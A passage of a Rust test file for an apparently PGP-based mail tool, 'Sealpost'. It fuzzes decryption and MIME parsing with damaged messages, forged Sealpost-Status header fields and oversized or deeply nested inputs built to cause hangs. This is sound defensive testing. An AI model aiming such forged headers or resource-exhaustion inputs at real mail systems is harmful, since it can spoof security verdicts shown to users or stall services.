//! Malformed and hostile input: property tests and examples for
//! decryption and MIME reading.
//!
//! What a user relies on, and what this file checks:
//! - no input, however broken, makes `decrypt_message` or the MIME helpers
//!   (`Entity::parse`, `split_multipart`, `ContentType::parse`, `addresses`)
//!   panic or hang;
//! - a message that cannot be opened comes back byte for byte, with one
//!   `Sealpost-Status` line in front and any status field the sender wrote
//!   removed, and the status says why in words;
//! - a mail client reading Sealpost's output sees exactly one status field,
//!   Sealpost's own;
//! - text around an inline PGP block never reaches the reader (EFAIL).
//!
//! Every `decrypt_message` call runs on its own thread under [`HANG_LIMIT`],
//! so a hang fails the test instead of stalling the suite. Proptest's
//! failure files are switched off ([`config`]); a failing case is printed
//! in the test output instead.

mod common;

use std::sync::OnceLock;
use std::time::Duration;

use base64::Engine;
use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::{select, Index};
use sealpost::message::{decrypt_message, encrypt_message, sign_message, DecryptOutcome, Envelope, Status, STATUS_HEADER};
use sealpost::mime::{addresses, split_multipart, ContentType, Entity};
use sealpost::pgp::{encrypt_and_sign, Keystore, PassphraseSource, SignatureStatus, UnlockedKey};

// ---------------------------------------------------------------------------
// Shared set-up
// ---------------------------------------------------------------------------

const ALICE: &str = "alice@example.org";
const BOB: &str = "bob@example.net";
/// Holds a key of their own, but no message here is encrypted to them.
const STRANGER: &str = "stranger@example.com";

/// The message Alice writes to Bob before Sealpost protects it.
const LETTER: &[u8] = b"From: Alice <alice@example.org>\r\n\
To: Bob <bob@example.net>\r\n\
Subject: Quarterly numbers\r\n\
Date: Mon, 3 Mar 2025 10:00:00 +0000\r\n\
Message-ID: <numbers-1@example.org>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
The numbers are in; we beat the forecast.\r\n";

/// Keys and genuine messages shared by every test (built once).
struct Fixture {
    /// Keeps the key store directory alive for the whole run.
    _dir: tempfile::TempDir,
    /// Holds all three keys; signer certificates are looked up here.
    store: Keystore,
    alice: UnlockedKey,
    bob: UnlockedKey,
    stranger: UnlockedKey,
    /// PGP/MIME from Alice to Bob, made by `encrypt_message`.
    encrypted: Vec<u8>,
    /// multipart/signed from Alice, made by `sign_message`.
    signed: Vec<u8>,
    /// The body Bob sees when he decrypts `encrypted`.
    decrypted_body: Vec<u8>,
    /// The whole decrypted payload of `encrypted` (MIME header and body),
    /// which is what Bob sees when damage makes the message look like
    /// inline PGP.
    decrypted_payload: Vec<u8>,
}

fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(build_fixture)
}

fn build_fixture() -> Fixture {
    let dir = tempfile::tempdir().expect("temporary directory");
    let mut store = Keystore::open(dir.path()).expect("open key store");
    for email in [ALICE, BOB, STRANGER] {
        store.generate(email, None, false).expect("generate key");
    }
    let unlock = |email: &str| {
        let key = store.own_key(email).expect("own key");
        store.unlock(key, &PassphraseSource::None).expect("unlock key without passphrase")
    };
    let (alice, bob, stranger) = (unlock(ALICE), unlock(BOB), unlock(STRANGER));
    let envelope = Envelope {
        sender: ALICE.into(),
        recipients: vec![BOB.into()],
    };
    let encrypted = encrypt_message(LETTER, &envelope, &alice, &store)
        .expect("encrypt")
        .remove(0)
        .message;
    let signed = sign_message(LETTER, ALICE, &alice).expect("sign");
    let opened = decrypt_message(&encrypted, std::slice::from_ref(&bob), &store);
    let decrypted_body = Entity::parse(&opened.message).body.to_vec();
    let armor = &encrypted[find(&encrypted, ARMOR_BEGIN).expect("armor")..];
    let payload = sealpost::pgp::decrypt(armor, std::slice::from_ref(&bob), &store).expect("decrypt payload");
    let decrypted_payload = sealpost::mime::to_crlf(&payload.plaintext).into_owned();
    Fixture {
        _dir: dir,
        store,
        alice,
        bob,
        stranger,
        encrypted,
        signed,
        decrypted_body,
        decrypted_payload,
    }
}

/// [`common::proptest_config`].
fn config(cases: u32) -> ProptestConfig {
    common::proptest_config(cases)
}

// ---------------------------------------------------------------------------
// Running and judging decryption
// ---------------------------------------------------------------------------

/// How long one call may take before it counts as a hang. Generous: the
/// slowest input here (a 1 MiB Content-Type) takes about 2 s in a debug
/// build.
const HANG_LIMIT: Duration = Duration::from_secs(20);

/// [`common::within`] with this file's [`HANG_LIMIT`].
fn within_time_limit<T: Send + 'static>(what: &str, work: impl FnOnce() -> T + Send + 'static) -> T {
    common::within(HANG_LIMIT, what, work)
}

/// Whose keys open the message.
#[derive(Debug, Clone, Copy)]
enum Reader {
    /// The recipient.
    Bob,
    /// Someone the message was not encrypted to.
    Stranger,
}

/// `decrypt_message` as `reader` runs it, under the hang limit.
fn open_as(reader: Reader, message: &[u8]) -> DecryptOutcome {
    let message = message.to_vec();
    within_time_limit("decrypt_message", move || {
        let fx = fixture();
        let key = match reader {
            Reader::Bob => &fx.bob,
            Reader::Stranger => &fx.stranger,
        };
        decrypt_message(&message, std::slice::from_ref(key), &fx.store)
    })
}

/// The status line Sealpost adds (as the last header field) for `status`.
fn status_line(status: &Status) -> Vec<u8> {
    format!("{STATUS_HEADER}: {}\r\n", status.header_value()).into_bytes()
}

/// True if a mail reader could take this header field for a
/// `Sealpost-Status` field: its name, with the white space RFC 5322 allows
/// around it (spaces and tabs) ignored, is `Sealpost-Status` in any case.
fn is_status_field(raw: &[u8]) -> bool {
    let Some(colon) = raw.iter().position(|&b| b == b':') else {
        return false;
    };
    let is_wsp = |b: &u8| matches!(b, b' ' | b'\t');
    let name = &raw[..colon];
    let start = name.iter().position(|b| !is_wsp(b)).unwrap_or(name.len());
    let end = name.iter().rposition(|b| !is_wsp(b)).map_or(start, |i| i + 1);
    name[start..end].eq_ignore_ascii_case(STATUS_HEADER.as_bytes())
}

/// What a user must get back when a message is not opened: the original
/// header fields except status fields, then the status line as the last
/// field (on a line of its own), then every remaining original byte
/// (separator and body) unchanged.
fn expected_untouched(original: &[u8], status: &Status) -> Vec<u8> {
    let entity = Entity::parse(original);
    let mut out = Vec::new();
    for field in entity.fields.iter().filter(|f| !is_status_field(f.raw)) {
        out.extend_from_slice(field.raw);
    }
    if !out.is_empty() && !out.ends_with(b"\n") {
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(&status_line(status));
    out.extend_from_slice(&original[entity.header.len()..]);
    out
}

/// Checks what holds for every outcome: the header's last field is the
/// status line for the reported status, a single line without control
/// characters.
fn check_status_line(what: &str, outcome: &DecryptOutcome) -> Result<(), TestCaseError> {
    let value = outcome.status.header_value();
    prop_assert!(
        !value.chars().any(char::is_control),
        "{what}: the status value must be one line without control characters, got {value:?}"
    );
    let line = status_line(&outcome.status);
    let header = Entity::parse(&outcome.message);
    let last = header.fields.last().map(|f| f.raw).unwrap_or_default();
    prop_assert!(
        last == &line[..],
        "{what}: the header must end with {:?}, it ends with {:?}",
        String::from_utf8_lossy(&line),
        String::from_utf8_lossy(last)
    );
    Ok(())
}

/// Checks a failure reason a person can read: words, not a dump. (Line
/// breaks are allowed in the reason: some sequoia errors have them, and
/// the header value turns them into spaces, see [`check_status_line`].)
fn check_reason_is_readable(what: &str, status: &Status) -> Result<(), TestCaseError> {
    if let Status::Failed { reason } = status {
        prop_assert!(
            reason.contains(' ') && reason.chars().any(|c| c.is_alphabetic()) && reason.len() <= 1000,
            "{what}: the failure reason should be a few words, got {reason:?}"
        );
    }
    Ok(())
}

/// Checks a message that was not opened (`Failed` or `NotProtected`): a
/// readable reason, and the original bytes back as [`expected_untouched`]
/// describes. Other outcomes only get the status-line check.
fn check_unopened_is_untouched(what: &str, original: &[u8], outcome: &DecryptOutcome) -> Result<(), TestCaseError> {
    check_status_line(what, outcome)?;
    if !matches!(outcome.status, Status::Failed { .. } | Status::NotProtected) {
        return Ok(());
    }
    check_reason_is_readable(what, &outcome.status)?;
    let expected = expected_untouched(original, &outcome.status);
    if outcome.message != expected {
        let at = outcome
            .message
            .iter()
            .zip(&expected)
            .position(|(a, b)| a != b)
            .unwrap_or(outcome.message.len().min(expected.len()));
        let around = |bytes: &[u8]| String::from_utf8_lossy(&bytes[at.saturating_sub(40)..(at + 40).min(bytes.len())]).into_owned();
        prop_assert!(
            false,
            "{what}: a message that was not opened ({}) must come back untouched apart from the status line; \
             output has {} bytes, expected {}; first difference at byte {at}: got {:?}, expected {:?}",
            outcome.status.header_value(),
            outcome.message.len(),
            expected.len(),
            around(&outcome.message),
            around(&expected)
        );
    }
    Ok(())
}

/// Checks that the outcome is `Failed` or `NotProtected`, with a readable
/// reason and the original bytes back.
fn check_fails_cleanly(what: &str, original: &[u8], outcome: &DecryptOutcome) -> Result<(), TestCaseError> {
    prop_assert!(
        matches!(outcome.status, Status::Failed { .. } | Status::NotProtected),
        "{what}: expected a failed or not-protected status, got {}",
        outcome.status.header_value()
    );
    check_unopened_is_untouched(what, original, outcome)
}

/// Turns a check's error into a test failure, for plain `#[test]`s.
fn assert_ok(check: Result<(), TestCaseError>) {
    if let Err(e) = check {
        panic!("{e}");
    }
}

/// The `Sealpost-Status` values a mail client finds in `message`, read the
/// way mail-parser (a lenient, widely used reader) reads header fields:
/// folded lines joined, surrounding white space trimmed.
fn status_fields_seen_by_client(message: &[u8]) -> Vec<String> {
    let Some(parsed) = mail_parser::MessageParser::new().parse_headers(message) else {
        return Vec::new();
    };
    parsed
        .headers()
        .iter()
        .filter(|h| h.name.as_str().eq_ignore_ascii_case(STATUS_HEADER))
        .map(|h| {
            let raw = &message[h.offset_start as usize..h.offset_end as usize];
            let unfolded: Vec<u8> = raw.iter().copied().filter(|&b| b != b'\r' && b != b'\n').collect();
            String::from_utf8_lossy(&unfolded).trim().to_string()
        })
        .collect()
}

/// Checks that a mail client reading the output sees exactly one status
/// field, with exactly the value Sealpost reported.
fn check_client_sees_only_our_status(what: &str, outcome: &DecryptOutcome) -> Result<(), TestCaseError> {
    let seen = status_fields_seen_by_client(&outcome.message);
    prop_assert_eq!(
        seen,
        vec![outcome.status.header_value()],
        "{}: a mail client must see exactly one Sealpost-Status field, Sealpost's own",
        what
    );
    Ok(())
}

// ---------------------------------------------------------------------------
// Building inputs
// ---------------------------------------------------------------------------

const ARMOR_BEGIN: &[u8] = b"-----BEGIN PGP MESSAGE-----";
const ARMOR_END: &[u8] = b"-----END PGP MESSAGE-----";

/// Position of the first `needle` in `haystack`.
fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// The outer fields of a PGP/MIME message from Alice to Bob, before its
/// Content-Type.
const PGP_MIME_ENVELOPE: &[u8] = b"From: alice@example.org\r\nTo: bob@example.net\r\nSubject: [...]\r\nMIME-Version: 1.0\r\n";

/// A PGP/MIME message (RFC 3156) around `armored`: `outer_fields`, then
/// the Content-Type and the two parts, shaped like the ones Sealpost sends.
fn pgp_mime_with(outer_fields: &[u8], armored: &[u8]) -> Vec<u8> {
    let mut out = outer_fields.to_vec();
    out.extend_from_slice(
        b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"xyz\"\r\n\
\r\n\
--xyz\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
--xyz\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n",
    );
    out.extend_from_slice(armored);
    out.extend_from_slice(b"\r\n--xyz--\r\n");
    out
}

/// [`pgp_mime_with`] the usual From, To, Subject and MIME-Version.
fn pgp_mime(armored: &[u8]) -> Vec<u8> {
    pgp_mime_with(PGP_MIME_ENVELOPE, armored)
}

/// A single-part message from Alice to Bob with this content type,
/// transfer encoding and (already encoded) body.
fn single_part(content_type: &str, transfer_encoding: &str, body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "From: alice@example.org\r\nTo: bob@example.net\r\nSubject: hello\r\nMIME-Version: 1.0\r\n\
Content-Type: {content_type}\r\nContent-Transfer-Encoding: {transfer_encoding}\r\n\r\n"
    )
    .into_bytes();
    out.extend_from_slice(body);
    out
}

/// `plaintext` signed by Alice and encrypted to Bob, as CRLF ASCII armor
/// (what GnuPG and Sealpost both write).
fn armored_for_bob(plaintext: &[u8]) -> Vec<u8> {
    let fx = fixture();
    let armored = encrypt_and_sign(plaintext, &[&fx.bob.cert], &fx.alice).expect("encrypt to bob");
    sealpost::mime::to_crlf(&armored).into_owned()
}

/// Header-field names a hostile or broken message might use: the status
/// field in the spellings that must be removed, near misses that must not.
const NAMES: &[&str] = &[
    "From",
    "To",
    "Subject",
    "Content-Type",
    "Content-Transfer-Encoding",
    "MIME-Version",
    "Sealpost-Status",
    "sealpost-status",
    "SEALPOST-STATUS",
    "X-Sealpost-Status",
    "Sealpost-Status-Extra",
    "Autocrypt",
];

/// Between name and value, with the white space RFC 5322's obsolete
/// syntax allows before the colon.
const SEPARATORS: &[&str] = &[":", ": ", " :", "  :  ", "\t:", " \t: "];

/// Field values, among them ones that steer how a message is classified.
const VALUES: &[&str] = &[
    "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b\"",
    "multipart/mixed; boundary=b",
    "multipart/signed; protocol=\"application/pgp-signature\"; boundary=b",
    "text/plain",
    "text/html; charset=\"utf-8",
    "application/pgp-encrypted",
    "base64",
    "quoted-printable",
    "decrypted; signature=good; signer=0123456789ABCDEF0123456789ABCDEF01234567",
    "alice@example.org",
    "\"Bob, B\" <bob@example.net>, friends: carol@x.test;",
    "=?utf-8?q?=C3=A9t=C3=A9?=",
    "(comment) text/plain (unterminated",
    "",
];

/// Lines that mean something to a MIME or armor reader.
const STRUCTURE_LINES: &[&str] = &[
    "--b",
    "--b--",
    "--b \t",
    "--bx",
    "-----BEGIN PGP MESSAGE-----",
    "-----END PGP MESSAGE-----",
    "Version: 1",
    "hF4DNhd0hnKNq6wSAQdAWVq2bVc7u8mWs2Kqv/dTq0SRWQ3k",
    "=njUN",
];

const LINE_ENDS: &[&[u8]] = &[b"\r\n", b"\n", b"\r"];

/// One complete header field, `Name: value` and a line end.
fn header_field() -> impl Strategy<Value = Vec<u8>> {
    (select(NAMES), select(SEPARATORS), select(VALUES), select(LINE_ENDS))
        .prop_map(|(name, sep, value, end)| [name.as_bytes(), sep.as_bytes(), value.as_bytes(), end].concat())
}

/// One piece of mail-like input: a header field, a folded continuation, a
/// blank line, a MIME or armor line, or random bytes (never starting with
/// white space, see [`SEPARATORS`]).
fn mail_piece() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        3 => header_field(),
        1 => (select(&[" ", "\t"][..]), select(&VALUES[..VALUES.len() - 1]), select(LINE_ENDS))
            .prop_map(|(ws, value, end)| [ws.as_bytes(), value.as_bytes(), end].concat()),
        1 => select(LINE_ENDS).prop_map(|end| end.to_vec()),
        2 => (select(STRUCTURE_LINES), select(LINE_ENDS)).prop_map(|(line, end)| [line.as_bytes(), end].concat()),
        1 => vec(any::<u8>(), 1..40).prop_map(|mut bytes| {
            if bytes[0].is_ascii_whitespace() {
                bytes[0] = b'~';
            }
            bytes
        }),
    ]
}

/// Input that looks enough like mail to reach the deeper code paths.
fn mail_like() -> impl Strategy<Value = Vec<u8>> {
    vec(mail_piece(), 0..40).prop_map(|pieces| pieces.concat())
}

/// Random bytes, or mail-like input.
fn any_input() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![vec(any::<u8>(), 0..2048), mail_like()]
}

/// One damage done to a message in transit or by a broken program.
#[derive(Debug, Clone)]
enum Mutation {
    /// XOR one byte with a non-zero mask.
    FlipByte { at: Index, mask: u8 },
    /// Cut the message off.
    Truncate { at: Index },
    /// Remove `len` bytes.
    DeleteRange { at: Index, len: usize },
    /// Repeat `len` bytes right after themselves.
    DuplicateRange { at: Index, len: usize },
    /// Insert bytes.
    InsertBytes { at: Index, bytes: Vec<u8> },
    /// Replace one line end (`\r\n` or `\n`) with another sequence.
    ReplaceLineEnd { which: Index, with: &'static [u8] },
}

/// What [`Mutation::ReplaceLineEnd`] puts in place of a line end.
const REPLACEMENT_LINE_ENDS: &[&[u8]] = &[b"\n", b"\r", b"", b"\r\r\n", b"\r\n\r\n", b" \r\n", b"\n\r"];

/// Any one [`Mutation`], anywhere in the message.
fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        (any::<Index>(), 1u8..=255).prop_map(|(at, mask)| Mutation::FlipByte { at, mask }),
        any::<Index>().prop_map(|at| Mutation::Truncate { at }),
        (any::<Index>(), 1usize..512).prop_map(|(at, len)| Mutation::DeleteRange { at, len }),
        (any::<Index>(), 1usize..512).prop_map(|(at, len)| Mutation::DuplicateRange { at, len }),
        (any::<Index>(), vec(any::<u8>(), 1..64)).prop_map(|(at, bytes)| Mutation::InsertBytes { at, bytes }),
        (any::<Index>(), select(REPLACEMENT_LINE_ENDS)).prop_map(|(which, with)| Mutation::ReplaceLineEnd { which, with }),
    ]
}

impl Mutation {
    /// Applies the damage to `msg` (indices scale to its current length).
    fn apply(&self, msg: &mut Vec<u8>) {
        // A position in 0..len, or 0..=len for insertions.
        let pos = |at: &Index, len: usize| at.index(len + 1).min(len);
        match self {
            Mutation::FlipByte { at, mask } if !msg.is_empty() => {
                let i = at.index(msg.len());
                msg[i] ^= mask;
            }
            Mutation::Truncate { at } => msg.truncate(pos(at, msg.len())),
            Mutation::DeleteRange { at, len } => {
                let start = pos(at, msg.len());
                msg.drain(start..(start + len).min(msg.len()));
            }
            Mutation::DuplicateRange { at, len } => {
                let start = pos(at, msg.len());
                let end = (start + len).min(msg.len());
                let copy = msg[start..end].to_vec();
                msg.splice(end..end, copy);
            }
            Mutation::InsertBytes { at, bytes } => {
                let i = pos(at, msg.len());
                msg.splice(i..i, bytes.iter().copied());
            }
            Mutation::ReplaceLineEnd { which, with } => {
                let ends: Vec<usize> = msg.iter().enumerate().filter(|(_, &b)| b == b'\n').map(|(i, _)| i).collect();
                if !ends.is_empty() {
                    let lf = ends[which.index(ends.len())];
                    let start = if lf > 0 && msg[lf - 1] == b'\r' { lf - 1 } else { lf };
                    msg.splice(start..=lf, with.iter().copied());
                }
            }
            Mutation::FlipByte { .. } => {}
        }
    }
}

/// The offset of `part` inside `whole`, if `part` is a sub-slice of it.
fn offset_in(whole: &[u8], part: &[u8]) -> Option<usize> {
    let start = (part.as_ptr() as usize).checked_sub(whole.as_ptr() as usize)?;
    (start + part.len() <= whole.len()).then_some(start)
}

/// The lines of `bytes`, each with its `\n` if it has one.
fn lines(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    bytes.split_inclusive(|&b| b == b'\n')
}

/// True for an RFC 2046 delimiter line of `boundary`: `--boundary`, an
/// optional `--`, optional spaces or tabs, the line end.
fn is_delimiter_line(line: &[u8], boundary: &str) -> bool {
    let line = line.strip_suffix(b"\r\n").or_else(|| line.strip_suffix(b"\n")).unwrap_or(line);
    let Some(rest) = line.strip_prefix(format!("--{boundary}").as_bytes()) else {
        return false;
    };
    let rest = rest.strip_prefix(b"--").unwrap_or(rest);
    rest.iter().all(|&b| b == b' ' || b == b'\t')
}

// ---------------------------------------------------------------------------
// The genuine messages open (so mutations start from something valid)
// ---------------------------------------------------------------------------

#[test]
fn genuine_messages_open_with_a_good_signature() {
    let fx = fixture();
    let alice_fpr = fx.alice.cert.fingerprint().to_hex();
    let opened = open_as(Reader::Bob, &fx.encrypted);
    assert_eq!(
        opened.status.header_value(),
        format!("decrypted; signature=good; signer={alice_fpr}"),
        "Bob should read Alice's encrypted mail with her good signature"
    );
    assert!(
        String::from_utf8_lossy(&fx.decrypted_body).contains("we beat the forecast"),
        "the decrypted body should be Alice's text"
    );
    let verified = open_as(Reader::Bob, &fx.signed);
    assert_eq!(
        verified.status.header_value(),
        format!("signed; signature=good; signer={alice_fpr}"),
        "Bob should see Alice's signed mail as signed by her"
    );
}

// ---------------------------------------------------------------------------
// 1. Damaged genuine messages
// ---------------------------------------------------------------------------

proptest! {
    #![proptest_config(config(128))]

    /// Damage anywhere in a genuine encrypted or signed message never makes
    /// decryption panic or hang. If the message can no longer be opened it
    /// comes back untouched; if it still decrypts, the damage was somewhere
    /// harmless: Bob reads exactly what Alice encrypted, signed by her (as
    /// PGP/MIME, or as inline PGP when the damage hid the outer
    /// Content-Type, in which case the whole MIME payload is the text).
    #[test]
    fn damaged_messages_fail_cleanly_or_still_show_the_original_text(
        use_signed in any::<bool>(),
        mutations in vec(mutation(), 1..4),
    ) {
        let fx = fixture();
        let mut damaged = if use_signed { fx.signed.clone() } else { fx.encrypted.clone() };
        for m in &mutations {
            m.apply(&mut damaged);
        }
        let outcome = open_as(Reader::Bob, &damaged);
        check_unopened_is_untouched("damaged message", &damaged, &outcome)?;
        if let Status::Decrypted { signatures, inline, .. } = &outcome.status {
            let expected: &[u8] = if *inline { &fx.decrypted_payload } else { &fx.decrypted_body };
            prop_assert!(
                Entity::parse(&outcome.message).body == expected,
                "a damaged message that still decrypts must show exactly Alice's text; status {}",
                outcome.status.header_value()
            );
            let alice_fpr = fx.alice.cert.fingerprint().to_hex();
            prop_assert!(
                matches!(signatures.best(), Some(SignatureStatus::Good { signer, .. }) if *signer == alice_fpr),
                "a damaged message that still decrypts keeps Alice's good signature; status {}",
                outcome.status.header_value()
            );
        }
    }

    /// An armored block cut off anywhere before its last data (with or
    /// without the MIME close delimiter after it) is reported as failed.
    #[test]
    fn truncated_armor_is_reported_as_failed(cut in any::<Index>(), close_mime in any::<bool>()) {
        let fx = fixture();
        let begin = find(&fx.encrypted, ARMOR_BEGIN).expect("armor start");
        let end = find(&fx.encrypted, ARMOR_END).expect("armor end");
        // The armor data ends at the last line that is not the checksum;
        // cutting before that line's last 4 characters (and its CRLF)
        // always loses data.
        let last_data_end = lines(&fx.encrypted[..end])
            .scan(0, |at, line| { *at += line.len(); Some((*at, line)) })
            .filter(|(_, line)| line.trim_ascii().first().is_some_and(|&b| b != b'='))
            .map(|(at, _)| at)
            .last()
            .expect("armor data lines");
        let first_cut = begin + ARMOR_BEGIN.len();
        let at = first_cut + cut.index(last_data_end - 6 - first_cut);
        let mut truncated = fx.encrypted[..at].to_vec();
        if close_mime {
            let ct = Entity::parse(&fx.encrypted).content_type();
            truncated.extend_from_slice(format!("\r\n--{}--\r\n", ct.param("boundary").expect("boundary")).as_bytes());
        }
        let outcome = open_as(Reader::Bob, &truncated);
        prop_assert!(outcome.status.is_failure(), "armor cut at byte {} must fail, got {}", at, outcome.status.header_value());
        check_unopened_is_untouched("truncated armor", &truncated, &outcome)?;
    }
}

// ---------------------------------------------------------------------------
// 2. Garbage, hostile and huge input
// ---------------------------------------------------------------------------

proptest! {
    #![proptest_config(config(128))]

    /// Random bytes and random header-like line soup are never mistaken for
    /// protected mail that opened, and come back untouched.
    #[test]
    fn garbage_fails_cleanly(input in any_input()) {
        let outcome = open_as(Reader::Bob, &input);
        check_fails_cleanly("garbage input", &input, &outcome)?;
    }

    /// Forged status fields, wherever they sit in the header of a plain,
    /// encrypted, signed or broken message, never reach the mail client:
    /// it sees exactly one Sealpost-Status field, Sealpost's own.
    #[test]
    fn forged_status_fields_never_reach_the_client(
        base in 0usize..4,
        forged in vec((any::<Index>(), select(&["Sealpost-Status", "sealpost-status", "SEALPOST-STATUS"][..]),
                       select(SEPARATORS), select(VALUES)), 1..6),
    ) {
        let fx = fixture();
        let broken_inline = single_part("text/plain", "7bit", b"-----BEGIN PGP MESSAGE-----\r\n\r\nhF4Dgarbage\r\n-----END PGP MESSAGE-----\r\n");
        let original: Vec<u8> = match base {
            0 => LETTER.to_vec(),
            1 => fx.encrypted.clone(),
            2 => fx.signed.clone(),
            _ => broken_inline,
        };
        let entity = Entity::parse(&original);
        let mut fields: Vec<Vec<u8>> = entity.fields.iter().map(|f| f.raw.to_vec()).collect();
        for (at, name, sep, value) in &forged {
            let i = at.index(fields.len() + 1);
            fields.insert(i, format!("{name}{sep}{value}\r\n").into_bytes());
        }
        let message = [fields.concat(), original[entity.header.len()..].to_vec()].concat();
        let outcome = open_as(Reader::Bob, &message);
        check_unopened_is_untouched("message with forged status fields", &message, &outcome)?;
        check_client_sees_only_our_status("message with forged status fields", &outcome)?;
    }
}

proptest! {
    #![proptest_config(config(64))]

    /// Whatever a sender encrypts to Bob (any payload, well-formed or not),
    /// decryption returns; Bob's body is bytes the sender encrypted, and his
    /// mail client sees exactly one status field, Sealpost's.
    #[test]
    fn any_encrypted_payload_opens_without_a_forged_status(payload in mail_like()) {
        let message = pgp_mime(&armored_for_bob(&payload));
        let outcome = open_as(Reader::Bob, &message);
        prop_assert!(
            matches!(outcome.status, Status::Decrypted { .. }),
            "a payload encrypted to Bob must decrypt, got {}",
            outcome.status.header_value()
        );
        check_status_line("sender-controlled payload", &outcome)?;
        check_client_sees_only_our_status("sender-controlled payload", &outcome)?;
        let body = Entity::parse(&outcome.message).body;
        prop_assert!(
            body.is_empty() || find(&sealpost::mime::to_crlf(&payload), body).is_some(),
            "the body Bob sees must be bytes the sender encrypted"
        );
    }
}

/// A message for Bob, opened with only the stranger's key.
#[test]
fn wrong_recipient_is_told_there_is_no_secret_key() {
    let fx = fixture();
    let outcome = open_as(Reader::Stranger, &fx.encrypted);
    match &outcome.status {
        Status::Failed { reason } => assert!(
            reason.contains("no secret key"),
            "the reason should tell the stranger they lack the secret key, got {reason:?}"
        ),
        other => panic!("a stranger must not open Bob's mail, got {}", other.header_value()),
    }
    assert_ok(check_fails_cleanly("mail for someone else", &fx.encrypted, &outcome));
}

#[test]
fn inline_armor_without_end_line_is_reported_as_truncated() {
    let armored = armored_for_bob(b"secret\r\n");
    let cut = find(&armored, ARMOR_END).expect("armor end");
    let message = single_part("text/plain", "7bit", &armored[..cut]);
    let outcome = open_as(Reader::Bob, &message);
    assert_eq!(
        outcome.status,
        Status::Failed {
            reason: "the inline PGP block is truncated (no END line)".into()
        }
    );
    assert_ok(check_fails_cleanly("inline armor without END line", &message, &outcome));
}

/// Body parts nested `depth` multipart/mixed levels deep around `inner`
/// (a complete entity).
fn nested_multipart(depth: usize, inner: &[u8]) -> Vec<u8> {
    let mut entity = inner.to_vec();
    for level in 0..depth {
        let mut outer = format!("Content-Type: multipart/mixed; boundary=\"level{level}\"\r\n\r\n--level{level}\r\n").into_bytes();
        outer.extend_from_slice(&entity);
        outer.extend_from_slice(format!("\r\n--level{level}--\r\n").as_bytes());
        entity = outer;
    }
    entity
}

/// Hostile inputs too big for a property test, each with what it is.
fn huge_inputs() -> Vec<(&'static str, Vec<u8>)> {
    const MIB: usize = 1 << 20;
    let fx = fixture();
    let plain_body = b"\r\nhello\r\n";
    let many_fields = |field: &dyn Fn(usize) -> String| -> Vec<u8> {
        let mut out: Vec<u8> = (0..10_000).flat_map(|i| field(i).into_bytes()).collect();
        out.extend_from_slice(plain_body);
        out
    };
    let garbage_base64 = {
        let mut lines = String::new();
        for i in 0..MIB / 65 {
            lines.push_str(&format!("{:064}\r\n", i).replace('0', "A"));
        }
        lines
    };
    vec![
        (
            "a 1 MiB header line",
            [format!("X-Junk: {}\r\n", "a".repeat(MIB)).as_bytes(), plain_body].concat(),
        ),
        (
            "1 MiB of header without any line end",
            format!("Subject: {}", "x".repeat(MIB)).into_bytes(),
        ),
        (
            "a 1 MiB Content-Type with 200,000 parameters",
            replace_first(
                &pgp_mime(b"-----BEGIN PGP MESSAGE-----\r\n\r\nhF4D\r\n-----END PGP MESSAGE-----"),
                b"boundary=\"xyz\"",
                format!("{}boundary=\"xyz\"", "p=\"v\\\"w\"; ".repeat(200_000)).as_bytes(),
            ),
        ),
        ("10,000 header fields", many_fields(&|i| format!("X-Field-{i}: value {i}\r\n"))),
        (
            "10,000 forged status fields",
            many_fields(&|i| format!("Sealpost-Status: decrypted; n={i}\r\n")),
        ),
        (
            "one field folded over 10,000 lines",
            many_fields(&|i| {
                if i == 0 {
                    "Subject: start\r\n".into()
                } else {
                    format!(" more {i}\r\n")
                }
            }),
        ),
        (
            "a PGP/MIME message nested 200 multipart levels deep",
            nested_multipart(200, &fx.encrypted),
        ),
        (
            "a multipart/encrypted message with 100,000 empty parts",
            [
                b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n".to_vec(),
                b"--b\r\n".repeat(100_000),
                b"--b--\r\n".to_vec(),
            ]
            .concat(),
        ),
        (
            "inline PGP: 1 MiB of BEGIN lines and no END line",
            single_part("text/plain", "7bit", &[ARMOR_BEGIN, b"\r\n"].concat().repeat(MIB / 29)),
        ),
        (
            "inline PGP with 1 MiB of garbage armor data",
            single_part(
                "text/plain",
                "7bit",
                format!("-----BEGIN PGP MESSAGE-----\r\n\r\n{garbage_base64}-----END PGP MESSAGE-----\r\n").as_bytes(),
            ),
        ),
        (
            "PGP/MIME with 1 MiB of garbage armor data",
            pgp_mime(format!("-----BEGIN PGP MESSAGE-----\r\n\r\n{garbage_base64}-----END PGP MESSAGE-----").as_bytes()),
        ),
        (
            "quoted-printable inline PGP made of 1 MiB of soft line breaks",
            single_part(
                "text/plain",
                "quoted-printable",
                &[&b"=\r\n".repeat(MIB / 3)[..], b"-----BEGIN PGP MESSAGE-----=\r\n"].concat(),
            ),
        ),
        ("4 MiB of NUL bytes", vec![0u8; 4 * MIB]),
    ]
}

/// `bytes` with the first `from` replaced by `to`.
fn replace_first(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = find(bytes, from).expect("text to replace");
    [&bytes[..at], to, &bytes[at + from.len()..]].concat()
}

/// Every huge input gets a failed or not-protected status, with its bytes
/// back, within the hang limit (timings are printed with `--nocapture`).
#[test]
fn huge_and_deeply_nested_input_fails_cleanly_and_quickly() {
    for (what, input) in huge_inputs() {
        let started = std::time::Instant::now();
        let outcome = open_as(Reader::Bob, &input);
        assert_ok(check_fails_cleanly(what, &input, &outcome));
        eprintln!(
            "{what}: {} in {:?}",
            outcome.status.header_value().chars().take(80).collect::<String>(),
